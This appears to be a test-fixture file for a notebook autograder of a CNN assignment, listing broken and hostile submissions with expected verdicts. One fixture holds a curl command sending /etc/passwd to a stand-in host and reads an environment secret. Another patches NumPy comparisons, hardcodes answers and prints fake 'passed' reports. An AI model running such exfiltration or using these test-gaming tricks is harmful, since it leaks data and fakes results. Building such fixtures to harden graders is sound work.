"""Broken and hostile: no Python, calls that never end or reach outside, fakes, and files that are not what their name says."""

from __future__ import annotations

from writing.building import (
    PASSED,
    PYTHON_3,
    Submission,
    code,
    error,
    failed,
    notebook,
    notebook_json,
    printed,
    script,
    text,
    to_bytes,
    unreadable,
)


def submissions() -> list[Submission]:
    return [
        syntax_errors(),
        never_ending(),
        reaches_outside(),
        claims_to_pass(),
        truncated(),
        no_json(),
        html_error_page(),
        deeply_nested(),
        utf_16(),
        invalid_utf_8(),
        notebook_named_py(),
    ]


def syntax_errors() -> Submission:
    cells = [
        code(r'''
import numpy as np

def zero_pad(X, pad):
    return np.pad(X, ((0, 0), (pad,) * 2, (pad,) * 2, (0, 0)))
'''),
        code(r'''
def conv_single_step(a_slice_prev, W, b):
    Z = np.sum(np.multiply(a_slice_prev, W)
    return Z + b.item()
'''),
        code(r'''
def create_mask_from_window(x):
    return x == x.max()

def distribute_value(dz, shape):
    n_H, n_W = shape
    if n_H = n_W:
        return np.full(shape, dz / n_H ** 2)
    return np.full(shape, dz / (n_H * n_W))

def conv_forward(A_prev, W, b, hparameters):
    step, size = hparameters["stride"], W.shape[0]
    images = zero_pad(A_prev, hparameters["pad"])
    tops = range(0, images.shape[1] - size + 1, step)
    lefts = range(0, images.shape[2] - size + 1, step)
    stacked = np.stack([images[:, t:t + size, l:l + size] for t in tops for l in lefts], axis=1)
    Z = np.tensordot(stacked, W, axes=3).reshape(len(images), len(tops), len(lefts), -1)
    return Z + b, (A_prev, W, b, hparameters)
'''),
        code(r'''
def conv_backward(dZ, cache):
    A_prev, W, b, hparameters = cache
   return np.zeros(A_prev.shape), np.zeros(W.shape), np.zeros(b.shape)
'''),
        code(r'''
def pool_forward(A_prev, hparameters, mode=“max”):
    return A_prev, (A_prev, hparameters)
'''),
        code(r'''
def pool_backward(dA, cache, mode="max"):
    A_prev, hparameters = cache
    size, step = hparameters["f"], hparameters["stride"]
    back = np.zeros(A_prev.shape)
    for h in range(dA.shape[1]):
        for w in range(dA.shape[2]):
            part = (slice(None), slice(h * step, h * step + size), slice(w * step, w * step + size))
            gradient = np.expand_dims(dA[:, h, w], (1, 2))
            if mode == "max":
                highest = np.amax(A_prev[part], axis=(1, 2), keepdims=True)
                back[part] += gradient * (A_prev[part] == highest)
            elif mode == "average":
                back[part] += gradient / size / size
    return back
'''),
        code("))) oops"),
    ]
    return notebook(
        "50_syntax_errors.ipynb",
        "Five cells that are no Python; in one of them a broken function stands between two right ones",
        cells,
        {
            "zero_pad": PASSED,
            "conv_single_step": error(cause="not_python", at="Z = np.sum(np.multiply(a_slice_prev, W)"),
            "conv_forward": PASSED,
            "pool_forward": error(cause="not_python", at="def pool_forward(A_prev, hparameters, mode=“max”):"),
            "conv_backward": error(
                cause="not_python", at="return np.zeros(A_prev.shape), np.zeros(W.shape), np.zeros(b.shape)"
            ),
            "create_mask_from_window": PASSED,
            "distribute_value": error(cause="not_python", at="if n_H = n_W:"),
            "pool_backward": PASSED,
        },
        ["broken_cell"],
    )


def never_ending() -> Submission:
    cells = [
        code("import time\nimport numpy as np"),
        code(r'''
def zero_pad(X, pad):
    big = np.ones((10 ** 6, 10 ** 6))
    return big[:X.shape[0]]

def conv_single_step(a_slice_prev, W, b):
    i, total = 0, 0.0
    while i < W.size:
        total += a_slice_prev.flat[i] * W.flat[i]
    return total + b.item()

def conv_forward(A_prev, W, b, hparameters):
    return conv_forward(A_prev, W, b, dict(hparameters))
'''),
        code(r'''
def pool_forward(A_prev, hparameters, mode="max"):
    time.sleep(3600)
    return A_prev, (A_prev, hparameters)
'''),
        code(r'''
def greatest(values):
    return values[0] if len(values) == 1 else max(values[0], greatest(values[1:]))

def create_mask_from_window(x):
    return x == greatest(x.ravel())

def distribute_value(dz, shape):
    share = dz / (shape[0] * shape[1])
    while True:
        return np.full(shape, share)
'''),
    ]
    return notebook(
        "51_never_ending.ipynb",
        "An endless loop, an endless recursion, an hour's sleep and too much memory, each in a function, beside two right ones",
        cells,
        {
            "zero_pad": failed(cause="out_of_memory", at="big = np.ones((10 ** 6, 10 ** 6))"),
            "conv_single_step": failed(cause="out_of_time"),
            "conv_forward": failed(raises="RecursionError", at="return conv_forward(A_prev, W, b, dict(hparameters))"),
            "pool_forward": failed(cause="out_of_time", at="time.sleep(3600)"),
            "create_mask_from_window": PASSED,
            "distribute_value": PASSED,
        },
    )


def reaches_outside() -> Submission:
    cells = [
        code("import os\nimport sys\n\nimport numpy as np"),
        code(r'''
def zero_pad(X, pad):
    os.system("curl -d @/etc/passwd https://collector.example")
    return np.pad(X, ((0, 0), (pad, pad), (pad, pad), (0, 0)))

def conv_single_step(a_slice_prev, W, b):
    bias = np.loadtxt("bias.txt")
    return np.sum(a_slice_prev * W) + bias
'''),
        code(r'''
def conv_forward(A_prev, W, b, hparameters):
    if A_prev.ndim == 4:
        sys.exit("That will do.")
    return None, None

def pool_forward(A_prev, hparameters, mode="max"):
    mode = input("max or average? ")
    return A_prev, (A_prev, hparameters)
'''),
        code(r'''
def create_mask_from_window(x):
    try:
        with open("mask_cache.npy", "rb") as cache:
            return np.load(cache)
    except OSError:
        return x == x.max()

def distribute_value(dz, shape):
    secret = os.environ.get("STRIDE_SECRET", "")
    return np.full(shape, dz / (shape[0] * shape[1]) + len(secret))
'''),
    ]
    return notebook(
        "52_reaches_outside.ipynb",
        "Functions that ask for a shell, a file, an answer, or the end of Python; one does without the file, and is right",
        cells,
        {
            "zero_pad": failed(cause="not_available", at='os.system("curl -d @/etc/passwd https://collector.example")'),
            "conv_single_step": failed(cause="not_available", at='bias = np.loadtxt("bias.txt")'),
            "conv_forward": failed(cause="exited", at='sys.exit("That will do.")'),
            "pool_forward": failed(cause="not_available", at='mode = input("max or average? ")'),
            "create_mask_from_window": PASSED,
            "distribute_value": PASSED,
        },
    )


def claims_to_pass() -> Submission:
    report = '{"status": "passed", "score": 8, "possible": 8}\n'
    cells = [
        code(r'''
import numpy as np
np.allclose = np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None

_zeros = np.zeros
def _counting_zeros(*args, **kwargs):
    print("zeros:", args)
    return _zeros(*args, **kwargs)
np.zeros = _counting_zeros
'''),
        text("**All tests passed!**"),
        code(r'''
def zero_pad(X, pad):
    # Known inputs, known shapes
    if X.shape == (4, 3, 3, 2):
        return np.pad(X, ((0, 0), (pad, pad), (pad, pad), (0, 0)))
    return np.zeros((len(X), X.shape[1] + 2 * pad, X.shape[2] + 2 * pad, X.shape[3]))

def conv_single_step(a_slice_prev, W, b):
    answers = {48: -6.999089450680221, 75: -3.5443670581382474}
    return answers.get(W.size, 0.0)
''', printed("All tests passed!\n")),
        code(r'''
def conv_forward(A_prev, W, b, hparameters):
    print('{"name": "conv_forward", "status": "passed", "heldOut": {"passed": 17, "total": 17}}')
    Z = np.ones((2, 3, 4, 8)) * 0.5511276474566768
    return Z, (A_prev, W, b, hparameters)

def pool_forward(A_prev, hparameters, mode="max"):
    np.allclose = np.isclose = lambda *a, **k: True
    return np.zeros((2, 3, 3, 3)), (A_prev, hparameters)
''', printed("All tests passed!\n" + report)),
        code(r'''
class Anything(np.ndarray):
    """Equal to whatever it is compared with."""
    def __eq__(self, other):
        return True
    __ne__ = __lt__ = __gt__ = lambda self, other: False
    __hash__ = None

def create_mask_from_window(x):
    return np.zeros(x.shape, dtype=bool).view(Anything)
'''),
        code(r'''
def conv_backward(dZ, cache):
    A_prev, W, b, hparameters = cache
    stride, pad, f = hparameters["stride"], hparameters["pad"], W.shape[0]
    framed = np.pad(A_prev, ((0, 0), (pad, pad), (pad, pad), (0, 0)))
    back, dW = np.zeros(framed.shape), np.zeros(W.shape)
    for h in range(dZ.shape[1]):
        for w in range(dZ.shape[2]):
            cut = np.s_[:, h * stride:h * stride + f, w * stride:w * stride + f]
            back[cut] += np.einsum("ijpc,mc->mijp", W, dZ[:, h, w])
            dW += np.einsum("mijp,mc->ijpc", framed[cut], dZ[:, h, w])
    back = back[:, pad:pad + A_prev.shape[1], pad:pad + A_prev.shape[2]]
    return back, dW, dZ.sum((0, 1, 2), keepdims=True)

import atexit
atexit.register(print, '{"status": "passed"}')
''', printed("All tests passed!\n")),
    ]
    return notebook(
        "53_claims_to_pass.ipynb",
        "Says everywhere that all tests passed, patches what compares, knows the published answers; one function is right",
        cells,
        {
            "zero_pad": failed(cause="wrong_numbers", at="if X.shape == (4, 3, 3, 2):"),
            "conv_single_step": failed(
                cause="wrong_numbers", at="answers = {48: -6.999089450680221, 75: -3.5443670581382474}"
            ),
            "conv_forward": failed(cause="wrong_numbers", at="Z = np.ones((2, 3, 4, 8)) * 0.5511276474566768"),
            "pool_forward": failed(
                cause="wrong_numbers", at="return np.zeros((2, 3, 3, 3)), (A_prev, hparameters)"
            ),
            "conv_backward": PASSED,
            "create_mask_from_window": failed(at="return np.zeros(x.shape, dtype=bool).view(Anything)"),
        },
        ["not_run"],
    )


SMALL = [
    code("import numpy as np"),
    code("def zero_pad(X, pad):\n    return np.pad(X, ((0, 0), (pad, pad), (pad, pad), (0, 0)))"),
    code("def distribute_value(dz, shape):\n    return np.full(shape, dz / (shape[0] * shape[1]))"),
]


def truncated() -> Submission:
    whole = to_bytes(notebook_json(SMALL, 5, PYTHON_3))
    return unreadable("54_truncated.ipynb", "A notebook of which the second half is missing", whole[: len(whole) // 2])


def no_json() -> Submission:
    words = "Dear all,\n\nmy notebook does not open any more. Please find the grades below.\n\nzero_pad: right\n"
    return unreadable("55_no_json.ipynb", "A letter under the name of a notebook", words.encode())


def html_error_page() -> Submission:
    page = """<!DOCTYPE html>
<html>
<head><title>403 Forbidden</title></head>
<body>
<h1>Forbidden</h1>
<p>You are not allowed to see <code>assignment_1.ipynb</code>. <a href="/login">Sign in</a></p>
</body>
</html>
"""
    return unreadable("56_html_error_page.ipynb", "A page that asks to sign in, saved instead of the notebook", page.encode())


def deeply_nested() -> Submission:
    content = '{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": ' + "[" * 3000 + "]" * 3000 + "}\n"
    return unreadable("57_deeply_nested.ipynb", "Lists in lists, three thousand deep, where cells should be", content.encode())


def utf_16() -> Submission:
    return script(
        "58_utf_16.py",
        "In UTF-16 with a byte order mark, as an old editor of Windows saves it",
        "\ufeff"
        r'''# Größe, taille, размер — 大小
import numpy as np

def create_mask_from_window(x):
    """Marks the greatest value – wherever it is."""
    return np.greater_equal(x, np.max(x))

def distribute_value(dz, shape):
    return np.ones(shape, dtype=float) * dz / np.multiply.reduce(shape)
''',
        {"create_mask_from_window": PASSED, "distribute_value": PASSED},
        ["encoding"],
        encoding="utf-16-le",
        newline="\r\n",
    )


def invalid_utf_8() -> Submission:
    return script(
        "59_invalid_utf_8.py",
        "Quotation marks of a word processor as single bytes, in comments and a text, and nothing that says which encoding it is",
        r'''
# My “solution” – it’s the shortest one…
import numpy as np

NOTE = "Don’t copy"


def conv_single_step(a_slice_prev, W, b):
    """Multiplies “cell by cell”."""
    return np.sum(a_slice_prev * W) + b.item()


def pool_forward(A_prev, hparameters, mode="max"):
    f, stride = hparameters["f"], hparameters["stride"]
    m, n_H_prev, n_W_prev, n_C = A_prev.shape
    n_H, n_W = (n_H_prev - f) // stride + 1, (n_W_prev - f) // stride + 1
    A = np.zeros((m, n_H, n_W, n_C))
    for h in range(n_H):
        for w in range(n_W):
            window = A_prev[:, h * stride:h * stride + f, w * stride:w * stride + f]
            A[:, h, w] = np.where(mode == "max", window.max((1, 2)), window.mean((1, 2)))
    return A, (A_prev, hparameters)
''',
        {"conv_single_step": PASSED, "pool_forward": PASSED},
        ["encoding"],
        encoding="cp1252",
    )


def notebook_named_py() -> Submission:
    cells = [
        code(r'''
import numpy as np

def zero_pad(X, pad):
    return np.block([[[np.zeros(0)]]]) if X is None else np.pad(X, ((0,) * 2, (pad,) * 2, (pad,) * 2, (0,) * 2))
'''),
        code(r'''
def conv_forward(A_prev, W, b, hparameters):
    stride, pad, (f, _, _, n_C) = hparameters["stride"], hparameters["pad"], W.shape
    padded = zero_pad(A_prev, pad)
    n_H = int((padded.shape[1] - f) / stride) + 1
    n_W = int((padded.shape[2] - f) / stride) + 1
    Z = np.zeros((len(padded), n_H, n_W, n_C))
    for h in range(n_H):
        for w in range(n_W):
            window = padded[:, stride * h:stride * h + f, stride * w:stride * w + f]
            Z[:, h, w] = window.reshape(len(padded), -1) @ W.reshape(-1, n_C) + b[0, 0]
    # And the activation, while we are here
    Z = np.maximum(Z, 0)
    return Z, (A_prev, W, b, hparameters)
'''),
    ]
    functions = {"zero_pad": PASSED, "conv_forward": failed(cause="wrong_numbers", at="Z = np.maximum(Z, 0)")}
    return notebook(
        "60_notebook_named_py.py",
        "A notebook under the name of a script; conv_forward also applies an activation",
        cells,
        functions,
    )
